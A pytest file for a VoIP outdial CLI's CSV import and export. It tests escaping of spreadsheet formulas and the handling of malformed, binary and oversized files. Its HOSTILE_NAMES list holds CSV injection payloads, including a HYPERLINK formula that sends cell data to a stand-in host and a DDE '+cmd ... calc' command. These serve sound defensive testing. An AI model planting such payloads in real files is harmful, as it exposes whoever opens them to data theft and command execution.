"""``import`` and ``export`` with files as people and attackers have them (issue 25): real files,
the console script in a subprocess, the mock served over HTTP."""

from __future__ import annotations

import codecs
import csv
import io
import random
import subprocess
import sys
import tempfile
from contextlib import redirect_stderr, redirect_stdout
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from voipbin_outdial import VoipbinClient
from voipbin_outdial.cli import main
from voipbin_outdial.contacts import Rejected, read_contacts

from .conftest import cli
from .test_cli_import_export import ENV, new_outdial

# Names a spreadsheet would run (issue 25), and names that only look like an escape.
HOSTILE_NAMES = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "%0A",
    "|pipe \\| and a backslash",
    "'=1",  # really starts with a quote
    "'plain",
    "''",
    "-1",  # a plain number stays as it is
]


def outdial_with_names(base_url: str, names: list[str]) -> str:
    outdial = new_outdial(base_url)
    with VoipbinClient(token="t", base_url=base_url) as client:
        for n, name in enumerate(names):
            client.outdialtargets.create(
                outdial,
                name=name,
                detail=name,
                data=f"row-{n}",
                destinations=[{"type": "tel", "target": f"+1201555{n:04d}"}],
            )
    return outdial


def names_in(base_url: str, outdial: str) -> dict[str, tuple[str, str]]:
    with VoipbinClient(token="t", base_url=base_url) as client:
        return {t.data: (t.name, t.detail) for t in client.outdialtargets.iter(outdial)}


def test_an_export_is_safe_to_open_and_imports_back_exactly(
    mock_server: str, tmp_path: Path
) -> None:
    source = outdial_with_names(mock_server, HOSTILE_NAMES)
    export = cli("export", "--outdial", source, "--base-url", mock_server, env=ENV)
    assert export.returncode == 0, export.stderr

    rows = list(csv.DictReader(io.StringIO(export.stdout)))
    written = {r["data"]: r["name"] for r in rows}
    for n, name in enumerate(HOSTILE_NAMES):
        cell = written[f"row-{n}"]
        if name == "-1":
            assert cell == "-1"
        else:  # text to a spreadsheet: its first character is the quote that says so
            assert cell.startswith("'"), cell

    exported = tmp_path / "export.csv"
    exported.write_text(export.stdout, encoding="utf-8")
    target = new_outdial(mock_server)
    imported = cli("import", str(exported), "--outdial", target, "--base-url", mock_server, env=ENV)
    assert imported.returncode == 0, imported.stderr
    assert names_in(mock_server, target) == names_in(mock_server, source)
    assert {name for name, _ in names_in(mock_server, target).values()} == set(HOSTILE_NAMES)


def test_a_file_the_tool_did_not_write_is_read_as_it_is(tmp_path: Path) -> None:
    """Only a file with the export's (or the rejects') header has its escapes taken off: in a
    list written by hand, a name that starts with a quote keeps it."""
    source = tmp_path / "in.csv"
    source.write_text("name,detail,data,destination_0\n'=1,'card,x,12345\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    result = cli("import", str(source), "--outdial", "x", "--dry-run", "--rejects", str(rejects))
    assert result.returncode == 1  # 12345 is no phone number: rejected, and written
    with rejects.open(newline="", encoding="utf-8") as f:
        (row,) = csv.DictReader(f)
    assert (row["name"], row["detail"]) == ("''=1", "''card")  # escaped as an export is
    data = rejects.read_bytes()
    assert data.count(b"\n") == data.count(b"\r\n") == 2  # the export's line ends
    with rejects.open(newline="", encoding="utf-8") as f:  # and read back as it was
        (again,) = read_contacts(f)
    assert isinstance(again, Rejected)
    assert (again.cells["name"], again.cells["detail"]) == ("'=1", "'card")


# -- nothing dropped silently (issue 25, point 2) --------------------------------------------

HEADER = "name,detail,data,destination_0\n"


def dry_run(path: Path, *options: str) -> tuple[int, list[str], str]:
    """``import PATH --dry-run``: the exit status, stderr's lines and stdout."""
    result = cli("import", str(path), "--outdial", "x", "--dry-run", *options)
    return result.returncode, result.stderr.splitlines(), result.stdout


def test_a_number_with_an_extension_is_rejected_not_cut(tmp_path: Path) -> None:
    """issue 25: both became +1203..., the extension gone without a word."""
    source = tmp_path / "in.csv"
    source.write_text(
        HEADER + "Ada,d,x,203 550 0016 x116\nBob,d,x,204-550-0017 ext. 12\nCy,d,x,2035500016\n"
    )
    status, errors, summary = dry_run(source)
    assert status == 1
    assert summary == "dry run: 1 rows to import, 2 rejected\n"
    assert errors == [
        "line 2: destination_0: '203 550 0016 x116' has an extension ('116'), which a tel "
        "address cannot carry",
        "line 3: destination_0: '204-550-0017 ext. 12' has an extension ('12'), which a tel "
        "address cannot carry",
    ]


def test_a_control_character_in_a_cell_is_a_reject_naming_line_and_column(tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(
        (HEADER + "A\x00da,d,x,+12015550123\nBob,d\x1b[2J,x,+12015550124\n").encode()
        + b'Cy,"two\nlines",x,+12015550125\nDi,d,x,+12015550126\n'
    )
    status, errors, summary = dry_run(source)
    assert status == 1
    assert summary == "dry run: 1 rows to import, 3 rejected\n"
    assert errors == [
        "line 2: name: 'A\\x00da' holds a control character (U+0000), which is refused",
        "line 3: detail: 'd\\x1b[2J' holds a control character (U+001B), which is refused",
        "line 5: detail: 'two\\nlines' holds a control character (U+000A), which is refused",
    ]


def test_a_reason_quotes_at_most_40_characters_of_a_cell(tmp_path: Path) -> None:
    """issue 25: a 120,000-character bad cell was echoed whole into one stderr line."""
    source = tmp_path / "in.csv"
    source.write_text(HEADER + "Ada,d,x," + "9" * 120_000 + "\n" + "Bob,d,x,+12015550123,extra\n")
    status, errors, _ = dry_run(source)
    assert status == 1
    assert errors == [
        f"line 2: destination_0: {'9' * 40!r}... (120,000 characters) is not a phone number "
        "((4) The string supplied was too long to parse.)",
        "line 3: column 5: 'extra' is past the header's 4 columns",
    ]


# -- files as people have them (issue 25, point 3) ---------------------------------------------

ROWS = [
    ("Ada Lovelace", "card", "crm-1", "+12015550123"),
    ("Bob", "card", "crm-2", "(201) 555-0124"),
]


@pytest.mark.parametrize(("sep", "option"), [(",", None), (";", None), ("\t", None), (";", "tab")])
def test_a_header_in_any_case_and_the_delimiter_are_read(
    tmp_path: Path, sep: str, option: str | None
) -> None:
    """issue 25: ``Name`` and a semicolon-delimited file (Excel's default in much of Europe)
    failed with "missing: name, detail, data, destination_0" though the columns were there."""
    source = tmp_path / "in.csv"
    lines = [sep.join([" Name ", "DETAIL", "Data ", " Destination_0"])]
    lines += [sep.join(row) for row in ROWS]
    source.write_text("\r\n".join(lines) + "\r\n", encoding="utf-8")
    options = () if option is None else ("--delimiter", option)
    status, errors, summary = dry_run(source, *options)
    if option == "tab":  # told the wrong delimiter: the columns are not found, and said so
        assert status == 2
        assert errors[0].endswith("missing: name, detail, data, destination_0")
        return
    assert (status, errors, summary) == (0, [], "dry run: 2 rows to import, 0 rejected\n")


def test_an_encoding_is_read_and_a_file_that_does_not_decode_names_its_line(tmp_path: Path) -> None:
    """issue 25: a Latin-1 file failed with a codec message and no line number."""
    text = HEADER + "Ada,d,x,+12015550123\nRené,d,x,+12015550124\n"
    latin = tmp_path / "latin.csv"
    latin.write_bytes(text.encode("latin-1"))
    status, errors, _ = dry_run(latin)
    assert status == 2
    assert errors == [
        "voipbin-outdial: error: line 3 does not decode as utf-8-sig (invalid continuation byte "
        "at byte b'\\xe9'); give the file's --encoding (such as cp1252 or latin-1)"
    ]
    assert dry_run(latin, "--encoding", "latin-1")[0] == 0
    for encoding in ("utf-8-sig", "utf-16"):  # a BOM, and a two-byte encoding
        other = tmp_path / f"{encoding}.csv"
        other.write_bytes(text.encode(encoding))
        options = () if encoding == "utf-8-sig" else ("--encoding", encoding)
        assert dry_run(other, *options)[2] == "dry run: 2 rows to import, 0 rejected\n"
    status, errors, _ = dry_run(latin, "--encoding", "rot13")
    assert status == 2
    assert "argument --encoding: 'rot13' is not a text encoding" in errors[-1]


def test_a_cell_over_the_field_limit_rejects_its_row_not_the_import(tmp_path: Path) -> None:
    """issue 25: a 100 MB cell ended the import with "unexpected Error: field larger than
    field limit (131072)"."""
    source = tmp_path / "in.csv"
    source.write_text(
        HEADER + "Ada,d,x,+12015550123\n" + "B" * 200_000 + ",d,x,+12015550124\n"
        "Cy,d,x,+12015550125\n"
    )
    status, errors, summary = dry_run(source)
    assert status == 1
    assert summary == "dry run: 2 rows to import, 1 rejected\n"
    assert errors == ["line 3: name: over 131,072 characters, the longest cell read"]

    # A quoted cell over many lines: its lines are skipped, not read as rows.
    source.write_text(
        HEADER + '"' + "A\n" * 70_000 + '",d,x,+12015550123\nBob,d,x,+12015550124\nCy,d,,+1\n'
    )
    status, errors, summary = dry_run(source)
    assert summary == "dry run: 1 rows to import, 2 rejected\n"
    assert errors[0].endswith(": over 131,072 characters, the longest cell read")
    assert errors[1].startswith("line 70004: destination_0: '+1' is not a phone number")


def test_the_progress_total_counts_rows_not_lines(mock_server: str, tmp_path: Path) -> None:
    """issue 25: the total counted blank lines (and the header)."""
    source = tmp_path / "in.csv"
    source.write_text(
        HEADER + "\n,,,\nAda,d,x,+12015550123\n\n\nBob,d,x,+12015550124\n , ,\n\r\n\nCy,d,,+1\n\n"
    )
    outdial = new_outdial(mock_server)
    result = cli("import", str(source), "--outdial", outdial, "--base-url", mock_server, env=ENV)
    assert result.returncode == 1  # Cy has no data
    assert "3/3 rows" in result.stderr
    assert result.stdout.startswith("created 2, skipped 0, rejected 1, failed 0 (3 rows in")


# -- no file makes a traceback ------------------------------------------------------------------

HOSTILE_FILES: dict[str, bytes] = {
    "empty": b"",
    "bom only": codecs.BOM_UTF8,
    "header only": HEADER.encode(),
    "header without an end": HEADER.strip().encode(),
    "binary": bytes(random.Random(25).randrange(256) for _ in range(5000)),
    "png": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
    "nul bytes": HEADER.encode() + b"\x00" * 1000 + b",\x00,\x00,\x00\n",
    "huge cell": HEADER.encode() + b"A" * 2_000_000 + b",d,x,+12015550123\n",
    "huge header cell": b"A" * 140_000,  # found by the Hypothesis test below
    "huge quoted cell over lines": HEADER.encode() + b'"' + b"A\n" * 200_000 + b'",d,x,+1\n',
    "mixed line endings": (
        HEADER + "A,d,x,+12015550123\rB,d,x,+12015550124\r\nC,d,x,+1\n"
    ).encode(),
    "unterminated quote": HEADER.encode() + b'"Ada,d,x,+12015550123\nBob,d,x,+1\n',
    "utf-16 read as utf-8": (HEADER + "Ada,d,x,+12015550123\n").encode("utf-16"),
    "many columns": (",".join(["name"] * 3 + ["x"] * 5000) + "\n").encode(),
    "lone surrogate bytes": HEADER.encode() + b"\xed\xa0\x80,d,x,+1\n",
    "only delimiters": b";;;;\n;;;;\n\t\t\t\n",
}


def assert_one_line_errors(status: int, stderr: str) -> None:
    assert status in (0, 1, 2), stderr
    assert "Traceback" not in stderr
    assert "error: unexpected" not in stderr  # what cli.main says of an exception it did not expect
    assert all(len(line) < 400 for line in stderr.splitlines()), stderr[:1000]


@pytest.mark.parametrize("name", list(HOSTILE_FILES))
def test_no_file_makes_a_traceback(tmp_path: Path, name: str) -> None:
    source = tmp_path / "in.csv"
    source.write_bytes(HOSTILE_FILES[name])
    result = cli(
        "import", str(source), "--outdial", "x", "--dry-run", "--rejects", str(tmp_path / "r.csv")
    )
    assert_one_line_errors(result.returncode, result.stderr)


def test_a_header_over_the_field_limit_is_one_line_naming_it(tmp_path: Path) -> None:
    """A header the csv reader refuses leaves no columns to read rows by: the file is refused
    in one line (it was "unexpected Error: field larger than field limit")."""
    source = tmp_path / "in.csv"
    source.write_bytes(b"A" * 140_000)
    result = cli("import", str(source), "--outdial", "x", "--dry-run")
    assert result.returncode == 2
    assert result.stderr == (
        "voipbin-outdial: error: line 1: column 1: over 131,072 characters, the longest cell"
        " read (the header)\n"
    )


def test_a_path_that_is_no_file_is_one_line(tmp_path: Path) -> None:
    for path in (tmp_path / "missing.csv", tmp_path):
        result = cli("import", str(path), "--outdial", "x", "--dry-run")
        assert result.returncode == 2
        assert result.stderr.startswith(f"voipbin-outdial: error: cannot read {path}: ")
        assert result.stderr.count("\n") == 1


HUGE = b"<a cell over the field limit>"  # written out as such, so that reprs stay short
PIECES = st.sampled_from(
    [
        *(HEADER.encode(), b"Ada,d,x,+12015550123\n", b'"', b",", b";", b"\t", b"\r", b"\n"),
        *(b"\x00", b"\xff", b"\xc3", b"\xe9", codecs.BOM_UTF8, b"x116", b"=cmd|'", b"'"),
        HUGE,
    ]
)


@settings(max_examples=40, deadline=None)
@given(st.lists(st.one_of(PIECES, st.binary(max_size=20)), max_size=12))
def test_any_bytes_end_in_a_summary_or_one_line(pieces: list[bytes]) -> None:
    """In process, so that an exception escaping ``main`` fails the test as it is."""
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder) / "in.csv"
        source.write_bytes(b"".join(pieces).replace(HUGE, b"A" * 140_000))
        out, err = io.StringIO(), io.StringIO()
        args = ["import", str(source), "--outdial", "x", "--dry-run"]
        with redirect_stdout(out), redirect_stderr(err):
            status = main([*args, "--rejects", str(Path(folder) / "r.csv")])
    assert_one_line_errors(status, err.getvalue())


def test_export_without_defusedcsv_names_the_csv_extra() -> None:
    """Export writes through defusedcsv: without it, one line naming the extra, not a file a
    spreadsheet would run."""
    code = (
        "import sys; sys.modules['defusedcsv'] = None\n"
        "from voipbin_outdial.cli import main\n"
        "sys.exit(main(['export', '--outdial', 'x']))\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, check=False
    )
    assert result.returncode == 1
    assert result.stdout == ""
    assert result.stderr == (
        "voipbin-outdial: error: export needs the 'csv' extra (defusedcsv keeps formulas out): "
        'pip install "voipbin-outdial[csv]"\n'
    )
